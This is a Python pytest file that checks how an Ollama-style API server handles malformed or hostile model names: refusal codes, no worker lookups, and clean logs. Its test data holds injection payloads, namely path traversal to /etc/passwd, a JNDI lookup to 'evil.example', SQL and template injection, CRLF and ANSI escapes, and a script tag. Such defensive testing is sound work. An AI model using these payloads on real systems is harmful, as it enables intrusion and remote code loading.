"""K1 to K3 of the catalogue of bad input: names of models, good for nothing or for mischief."""

import json
from collections.abc import Mapping
from typing import Any, Final
from urllib.parse import quote

import pytest

pytestmark = pytest.mark.real_time

MISSING: Final[Mapping[str, object]] = {"K1 null": None, "K1 nothing": ""}
OF_ANOTHER_TYPE: Final[Mapping[str, object]] = {
    "K1 42": 42,
    "K1 true": True,
    "K1 a list": ["actor/scripted"],
    "K1 an object": {"name": "actor/scripted"},
}
STRANGE: Final[Mapping[str, str]] = {
    "K2 unknown": "nobody-has-it",
    "K2 a worker alone": "actor/",
    "K2 a model of another worker": "actor/notes",
    "K3 10 KB": "m" * 10_240,
    "K3 256 characters": "m" * 256,
    "K3 CR and LF": 'x\r\nHTTP/1.1 200 OK\r\n{"level": "error"}',
    "K3 NUL": "actor/scripted\0",
    "K3 right to left": "actor/\u202edetpircs",
    "K3 zero width": "actor/script\u200bed",
    "K3 a homoglyph": "\u0430ctor/scripted",
    "K3 a path": "../../../../etc/passwd",
    "K3 an escaped path": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "K3 a path behind a worker": "actor/../scripted",
    "K3 a parameter": "scripted;b",
    "K3 SQL": "'OR 1=1 --",
    "K3 a look-up": "${jndi:ldap://evil.example/a}",
    "K3 a template": "{{7*7}}",
    "K3 a format": "%s%n{0.__class__}",
    "K3 ANSI": "\x1b[2J\x1b]0;owned\x07",
    "K3 a line separator": "a\u2028b\x85c",
    "K3 a tag that is no tag": "scripted:latest:latest",
    "K3 a page": "<script>alert(1)</script>",
}
ANY_WILL_DO: Final = {"/api/chat", "/api/generate", "/api/embed"}
"""Ollama's clients may leave the model out, which means the same as `auto`."""


@pytest.mark.parametrize("name", MISSING)
def test_no_model(node: Any, refused: Any, endpoint: Any, name: str) -> None:
    """It is named as missing, or any will do."""
    document = {**endpoint.document, "model": MISSING[name]}
    if endpoint.path in ANY_WILL_DO:
        [reply] = node.post(endpoint.path, json.dumps(document).encode())
        assert reply.status == 200
        return
    told = refused(endpoint.path, document)
    assert told.names("model")
    assert told.is_for("missing_required_parameter")


@pytest.mark.parametrize("name", OF_ANOTHER_TYPE)
def test_k1_a_model_is_a_string(refused: Any, endpoint: Any, name: str) -> None:
    """Nothing else becomes one."""
    told = refused(endpoint.path, {**endpoint.document, "model": OF_ANOTHER_TYPE[name]})
    assert told.names("model")
    assert told.is_for("invalid_type")


@pytest.mark.parametrize("name", STRANGE)
def test_a_model_that_nobody_has(
    node: Any, refusal: Any, recorder: Any, endpoint: Any, name: str
) -> None:
    """It is not found, or not looked for; no worker is asked, and the log stays a log."""
    model, asked, logged = STRANGE[name], len(recorder.asked), len(node.log)
    body = json.dumps({**endpoint.document, "model": model}).encode()
    [reply] = node.post(endpoint.path, body)
    told = refusal(reply, endpoint.path, body)
    is_name = model.isprintable() and len(model) <= 256
    assert reply.status == (404 if is_name else 400)
    assert told.message.isprintable()
    if endpoint.speaks_openai:
        assert (told.param, told.code) == (
            "model",
            "model_not_found" if is_name else "invalid_value",
        )
    assert len(recorder.asked) == asked
    _check_log(node.log[logged:], endpoint.path, model)


@pytest.mark.parametrize("name", STRANGE)
def test_a_model_in_a_path_that_nobody_has(node: Any, refusal: Any, name: str) -> None:
    """Whatever it unpacks to, it is a name and no path."""
    logged = len(node.log)
    model = STRANGE[name][:2000]
    target = f"/v1/models/{quote(model, safe='')}"
    [reply] = node.say(
        b"GET %b HTTP/1.1\r\nHost: test\r\nConnection: close\r\n\r\n" % target.encode()
    )
    assert reply.status in {400, 404}
    assert refusal(reply, target, model.encode()).message.isprintable()
    _check_log(node.log[logged:], target, model)


def _check_log(written: str, path: str, model: str) -> None:
    """A line is a document, whatever stands in it, and nothing in it moves the cursor."""
    for line in written.splitlines():
        assert line.isprintable()
        document = json.loads(line)
        assert document["level"] == "info", (path, line)
        assert len(str(document.get("model", ""))) <= 256, model
